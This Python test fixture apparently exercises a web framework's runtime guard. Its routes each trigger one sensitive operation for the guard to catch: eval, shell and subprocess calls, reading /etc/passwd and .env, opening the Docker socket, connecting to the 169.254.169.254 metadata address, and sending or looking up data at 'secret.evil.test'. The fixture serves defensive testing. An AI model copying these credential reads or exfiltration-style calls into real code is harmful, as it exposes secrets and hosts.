"""An app whose handlers do, when asked to, what an attacker would have them do; and its declared neighbours, which may."""

import ast
import asyncio
import collections
import ctypes
import dataclasses
import marshal
import os
import pickle
import socket
import sqlite3
import subprocess
import tempfile
import threading
import zoneinfo
from collections.abc import Awaitable, Callable
from pathlib import Path

from sqlalchemy import func, select

from fastness import Because, Fastness, JSONResponse, Request, Response, Routes, Settings, access
from fastness.outbound.errors import OutboundRefusedError
from tests.attacks.target import KeptNote

METADATA = ("169.254.169.254", 80)
REASON = Because("the same thing, on a route that says so")
routes = Routes(access=access.public)


async def evaluate(request: Request) -> None:
    eval("1 + 1")


async def execute(request: Request) -> None:
    exec("x = 1")


async def compile_text(request: Request) -> None:
    compile("1", "<visitor>", "eval")


async def unmarshal(request: Request) -> None:
    marshal.loads(marshal.dumps(1))


async def unpickle(request: Request) -> None:
    pickle.loads(b"cos\ngetcwd\n.")


async def shell(request: Request) -> None:
    os.system("true")


async def program(request: Request) -> None:
    subprocess.run(["true"], check=False)


async def fork(request: Request) -> None:
    child = os.fork()
    if not child:
        os._exit(0)
    os.waitpid(child, 0)


async def loop_program(request: Request) -> None:
    await (await asyncio.create_subprocess_exec("true")).wait()


async def loop_shell(request: Request) -> None:
    await (await asyncio.create_subprocess_shell("true")).wait()


async def native(request: Request) -> None:
    ctypes.CDLL(None)


async def passwords(request: Request) -> None:
    with open("/etc/passwd") as file:
        file.read()


async def linked(request: Request) -> None:
    link = Path(tempfile.mkdtemp()) / "report.txt"
    os.symlink("/etc/passwd", link)
    link.read_text()


async def settings_file(request: Request) -> None:
    Path(".env").read_text()


async def own_code(request: Request) -> None:
    # A module that lies in no temporary folder, as a checkout may.
    with open(os.__file__, "a"):
        pass


async def removed(request: Request) -> None:
    os.remove("/etc/fastness-no-such-file")


async def database(request: Request) -> None:
    sqlite3.connect("/etc/passwd").close()


async def connection(request: Request) -> None:
    with socket.socket() as opened:
        opened.setblocking(False)
        opened.connect(METADATA)


async def datagram(request: Request) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as opened:
        opened.sendto(b"secret", METADATA)


async def lookup(request: Request) -> None:
    socket.getaddrinfo("secret.evil.test", 80)


async def loop_connection(request: Request) -> None:
    async with asyncio.timeout(0.1):
        await asyncio.open_connection(*METADATA)


async def loop_socket(request: Request) -> None:
    with socket.socket() as opened:
        opened.setblocking(False)
        async with asyncio.timeout(0.1):
            await asyncio.get_running_loop().sock_connect(opened, METADATA)


async def loop_lookup(request: Request) -> None:
    await asyncio.get_running_loop().getaddrinfo("secret.evil.test", 80)


async def loop_datagrams(request: Request) -> None:
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        asyncio.DatagramProtocol, remote_addr=METADATA
    )
    transport.close()


async def loop_unix(request: Request) -> None:
    await asyncio.open_unix_connection("/var/run/docker.sock")


async def on_a_thread(request: Request) -> None:
    await asyncio.to_thread(passwords_now)


async def on_the_executor(request: Request) -> None:
    await asyncio.get_running_loop().run_in_executor(None, passwords_now)


async def in_a_task(request: Request) -> None:
    await asyncio.create_task(passwords(request))


async def swallowed(request: Request) -> None:
    try:
        os.system("true")
    except Exception:
        request.exchange.status = 0


def passwords_now() -> None:
    Path("/etc/passwd").read_text()


TRIPS: dict[str, tuple[Callable[[Request], Awaitable[None]], str, str]] = {
    "evaluate": (evaluate, "code", ""),
    "execute": (execute, "code", ""),
    "compile": (compile_text, "code", ""),
    "unmarshal": (unmarshal, "code", ""),
    "unpickle": (unpickle, "pickle", "os.getcwd"),
    "shell": (shell, "process", "true"),
    "program": (program, "process", "true"),
    "fork": (fork, "process", ""),
    "loop-program": (loop_program, "process", "true"),
    "loop-shell": (loop_shell, "process", "true"),
    "native": (native, "native", ""),
    "passwords": (passwords, "files", "/etc/passwd (read)"),
    "linked": (linked, "files", "/etc/passwd (read)"),
    "settings-file": (settings_file, "files", ""),
    "own-code": (own_code, "files", f"{Path(os.__file__).resolve()} (write)"),
    "removed": (removed, "files", "/etc/fastness-no-such-file (write)"),
    "database": (database, "files", "/etc/passwd (write)"),
    "connection": (connection, "sockets", "169.254.169.254 port 80"),
    "datagram": (datagram, "sockets", "169.254.169.254 port 80"),
    "lookup": (lookup, "sockets", "secret.evil.test port 80"),
    "loop-connection": (loop_connection, "sockets", "169.254.169.254 port 80"),
    "loop-socket": (loop_socket, "sockets", "169.254.169.254 port 80"),
    "loop-lookup": (loop_lookup, "sockets", "secret.evil.test port 80"),
    "loop-datagrams": (loop_datagrams, "sockets", "169.254.169.254 port 80"),
    "loop-unix": (loop_unix, "sockets", "/var/run/docker.sock"),
    "on-a-thread": (on_a_thread, "files", "/etc/passwd (read)"),
    "on-the-executor": (on_the_executor, "files", "/etc/passwd (read)"),
    "in-a-task": (in_a_task, "files", "/etc/passwd (read)"),
}
"""By path: what it does, and the wire and the subject that the event names."""


def declare(name: str, trip: Callable[[Request], Awaitable[None]], **options: object) -> None:
    async def handler(request: Request) -> Response:
        request.db.add(KeptNote(text=name))
        await request.db.flush()
        await trip(request)
        return JSONResponse("done")

    routes.post(f"/{name}", name=name.replace("/", "-"), **options)(handler)


for path, (trip, wire, _) in TRIPS.items():
    declare(path, trip)
    if wire != "sockets" and path != "removed":
        declare(f"declared/{path}", trip, **{f"insecure_{wire}": REASON})
declare("swallowed", swallowed)


@routes.get("/count")
async def count(request: Request) -> Response:
    return JSONResponse(await request.db.scalar(select(func.count()).select_from(KeptNote)))


@routes.get("/ordinary")
async def ordinary(request: Request) -> Response:
    """What libraries do in every app, and no visitor has a hand in."""
    ast.literal_eval("[1, 2]")
    collections.namedtuple("Pair", "one two")  # noqa: PYI024
    dataclasses.make_dataclass("Made", ["one"])
    zoneinfo.ZoneInfo("Europe/Berlin")
    import xml.dom.minidom  # noqa: F401

    Path(__file__).read_text()
    with tempfile.TemporaryFile() as file, open("/dev/null"):
        file.write(b"upload")
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "a").write_text("a")
    await asyncio.to_thread(threading.get_ident)
    left, right = socket.socketpair()
    left.close()
    right.close()
    return JSONResponse("done")


async def slowly(request: Request) -> Response:
    await asyncio.sleep(0.02)
    await passwords(request)
    return JSONResponse("done")


routes.get("/slowly", name="slowly")(slowly)
routes.get("/slowly/declared", name="slowly-declared", insecure_files=REASON)(slowly)


@routes.get("/outbound")
async def outbound(request: Request) -> Response:
    try:
        await request.outbound.get("https://169.254.169.254/latest/meta-data/")
    except OutboundRefusedError as error:
        return JSONResponse(error.reason, status=400)
    return JSONResponse("done")


@routes.get("/partner/{port:int}")
async def partner(request: Request) -> Response:
    answer = await request.outbound.get(f"http://localhost:{request.path_params['port']}/")
    return JSONResponse(answer.text)


def make_app() -> Fastness:
    return Fastness(Settings.load(), routes=[routes])
